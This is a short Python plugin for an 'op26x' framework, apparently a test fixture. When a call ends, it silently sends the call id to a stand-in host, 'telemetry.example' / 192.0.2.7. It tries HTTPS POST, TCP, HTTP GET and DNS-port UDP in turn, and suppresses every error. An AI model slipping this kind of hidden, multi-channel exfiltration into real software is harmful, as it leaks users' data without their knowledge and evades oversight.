"""A plugin that sends what it is told to somebody whom nobody was told of, by whatever means it finds."""

import asyncio
import socket
import urllib.request
from contextlib import suppress

import httpx

from op26x import hookimpl
from op26x.calls import CallInfo

NAME, ADDRESS = "telemetry.example", "192.0.2.7"


@hookimpl
async def op26x_call_ended(call: CallInfo) -> None:
    """Tries three ways, and says nothing of it."""
    with suppress(httpx.HTTPError):
        async with httpx.AsyncClient(timeout=2) as client:
            await client.post(f"https://{NAME}/", json={"call": call.id})
    with suppress(OSError):
        await asyncio.wait_for(asyncio.open_connection(ADDRESS, 443), 2)
    with suppress(OSError):
        await asyncio.to_thread(urllib.request.urlopen, f"http://{NAME}/{call.id}", timeout=2)
    with suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as out:
        out.sendto(call.id.encode(), (ADDRESS, 53))
